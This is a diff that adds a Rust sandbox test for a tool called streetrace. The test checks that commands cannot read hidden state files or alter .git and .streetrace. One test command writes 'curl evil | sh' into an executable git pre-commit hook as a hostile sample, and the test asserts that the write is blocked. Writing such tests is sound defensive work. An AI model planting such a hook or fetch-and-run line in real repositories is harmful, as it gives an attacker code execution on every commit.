@@ -142,6 +142,39 @@ async fn the_runtime_state_inside_the_work_dir_is_hidden_from_commands() {
     assert!(!cassette.is_symlink());
 }
 
+/// `sr run` in a home directory: the default state directory is inside the work
+/// directory, and launch hides both it and the sessions database in it. Commands
+/// still work, and neither `.git` nor a missing `.streetrace` can be changed.
+#[tokio::test]
+async fn commands_work_beside_the_state_and_cannot_touch_git_or_streetrace() {
+    if !bubblewrap_or_skip("the cli tool") {
+        return;
+    }
+    let work = common::work_dir("cli-home");
+    let state = work.join(".local/state/streetrace/home-0123");
+    std::fs::create_dir_all(&state).unwrap();
+    std::fs::write(state.join("sessions.sqlite"), "DB").unwrap();
+    std::fs::create_dir_all(work.join(".git/hooks")).unwrap();
+    std::fs::write(work.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    let results = commands(
+        "streetrace.cli",
+        &[
+            &["sh", "-c", "echo made > made.txt && cat made.txt"],
+            &["ls", "-A", ".local/state/streetrace/home-0123"],
+            &["sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"],
+            &["sh", "-c", "mkdir -p .streetrace/agents && echo x > .streetrace/agents/main.sr"],
+        ],
+        Options { forbidden: vec![state.clone(), state.join("sessions.sqlite")], ..options(&work) },
+    )
+    .await;
+    assert_eq!(stdout(&results[0]), "made\n", "{}", results[0]);
+    assert_eq!(stdout(&results[1]), "", "{}", results[1]);
+    assert!(failed(&results[2]) && failed(&results[3]), "{results:?}");
+    assert!(!work.join(".git/hooks/pre-commit").exists());
+    assert!(!work.join(".streetrace").exists());
+    assert_eq!(std::fs::read_to_string(state.join("sessions.sqlite")).unwrap(), "DB");
+}
+
 /// A local server the commands try to reach, and whether anything did.
 async fn listener() -> (u16, tokio::task::JoinHandle<bool>) {
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
